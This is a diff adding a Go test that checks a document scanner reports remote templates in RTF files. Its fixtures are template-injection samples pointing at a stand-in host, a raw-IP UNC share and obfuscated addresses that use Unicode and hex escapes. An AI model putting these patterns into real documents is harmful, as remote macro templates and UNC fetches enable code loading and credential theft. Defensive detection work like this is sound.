@@ -75,3 +75,25 @@ func TestWhatADocumentFetchesIsReported(t *testing.T) {
 		}
 	}
 }
+
+// The template of rich text is fetched as that of an office document is, however its address is written.
+func TestTheTemplateOfRichTextIsReported(t *testing.T) {
+	for content, want := range map[string]string{
+		`{\rtf1{\*\template https://kwaad.example/a.dotm}Beste ouders}`:                 "https://kwaad.example/a.dotm",
+		`{\rtf1{\*\template \\\\1.2.3.4\\d\\a.dotm}\par Beste}`:                         `\\1.2.3.4\d\a.dotm`,
+		`{\rtf1{\*\template \u104?\u-65420?\u-65420?\u112?://kwaad.example/a}}`:         "http://kwaad.example/a",
+		`{\rtf1{\*\template {\uc0\u104 t}\'74p://kwaad.example/a}}`:                     "http://kwaad.example/a",
+		`{\rtf1{\*\template` + "\r\n" + `http://kwaad.example/a`:                        "http://kwaad.example/a",
+		`{\rtf1{\*\template C:\\Users\\juf\\Normal.dotm}\par Beste ouders\par}`:         `C:\Users\juf\Normal.dotm`,
+		`{\rtf1 De \{\\*\\template https://school.example\} staat in de les over RTF.}`: "",
+		`{\rtf1{\stylesheet{\s1 Kop;}}{\info{\title brief}}Beste ouders}`:               "",
+	} {
+		got := ""
+		for _, f := range showDocument(t, "brief.rtf", []byte(content)).report.Fetches {
+			got += f.Target.Reveal()
+		}
+		if got != want {
+			t.Errorf("%s: fetches %q, want %q", content, got, want)
+		}
+	}
+}
